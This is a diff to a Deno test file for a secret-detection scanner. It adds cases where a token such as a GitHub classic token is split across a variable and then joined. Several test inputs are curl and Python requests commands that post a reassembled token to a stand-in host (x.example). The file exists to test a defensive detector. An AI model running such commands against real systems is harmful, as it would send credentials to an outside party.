@@ -2414,9 +2414,28 @@ Deno.test('a token split across variables that the code then joins (`A=ghp_Zq8L;
       assert.ok(found(asJson).includes(`assigned:${rule}`), asJson);
     }
   }
+  // The rest in a variable, used after the text that holds the prefix.
+  for (const [token, rule, prefix] of CUT_CASES) {
+    const [head, rest] = [token.slice(0, prefix + 3), token.slice(prefix + 3)];
+    for (
+      const text of [
+        `B=${rest}; curl -d "t=${head}$B" https://x.example`,
+        `B=${rest}; curl -d "t=${head}\${B}" https://x.example`,
+        `b = "${rest}"\nrequests.post(u, data=f"${head}{b}")`,
+        `b = '${rest}'\nputs "${head}#{b}"`,
+      ]
+    ) {
+      const f = findSecrets(text).filter((x) => x.rule === rule);
+      assert.equal(f.length, 1, `${found(text)}: ${text}`);
+      // Its span from the value to the text, the two and what stands between them.
+      assert.equal(f[0]!.index, text.indexOf(rest), text);
+      assert.equal(f[0]!.index + f[0]!.length, text.indexOf(head) + head.length, text);
+    }
+  }
   for (
     const text of [
       'P=ghp_; echo "${P}is the prefix of a classic token"',
+      'W=world; echo "ghp_$W"; echo "npm_${HOME}"',
       'K=AKIA; echo "$K$USER"; echo "${K}-style keys"',
     ]
   ) {
